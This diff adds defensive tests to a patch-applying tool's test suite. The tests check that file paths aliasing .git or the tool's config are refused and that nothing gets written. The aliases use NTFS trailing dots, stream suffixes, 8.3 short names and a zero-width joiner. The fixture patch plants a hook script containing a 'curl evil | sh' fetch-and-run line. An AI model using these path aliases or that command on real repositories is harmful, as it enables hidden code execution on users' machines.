@@ -52,3 +52,22 @@ describe('patchsmith apply: a deny rule holds through symlinks', () => {
     },
   );
 });
+
+describe('patchsmith apply: aliases of .git and of its own config are refused on every OS', () => {
+  // NTFS drops trailing dots and spaces and reads `name::$DATA` as `name`; HFS+ ignores some code
+  // points; the 8.3 short name of .git is GIT~1. A tree written here may be checked out there.
+  it.each([
+    ['.git./hooks/pre-commit', 'PATH_INVALID'],
+    ['.git::$INDEX_ALLOCATION/hooks/post-checkout', 'PATH_INVALID'],
+    ['GIT~1/config', 'PATH_INVALID'],
+    ['.g\u200cit/hooks/pre-commit', 'PATH_INVALID'],
+    ['.patchsmith.json.', 'DENIED'],
+    ['PATCHS~1.JSO', 'DENIED'],
+  ])('adding %s: exit 1, %s, nothing written', async (path, code) => {
+    const before = await entries();
+    const r = ps(['apply', '--json'], patch(`*** Add File: ${path}`, '+#!/bin/sh', '+curl evil | sh'));
+    expect(r.status).toBe(1);
+    expect(JSON.parse(r.stdout)).toMatchObject({ ok: false, errors: [{ code }] });
+    expect(await entries()).toEqual(before);
+  });
+});
